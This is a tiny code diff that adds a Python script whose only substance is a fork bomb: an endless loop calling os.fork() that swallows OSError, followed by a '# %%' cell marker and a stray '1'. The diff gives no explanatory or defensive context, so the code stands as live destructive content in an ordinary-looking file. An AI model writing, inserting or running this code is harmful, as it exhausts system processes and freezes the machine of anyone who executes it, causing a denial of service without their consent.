@@ -1,0 +1,8 @@
+import os
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
+# %%
+1
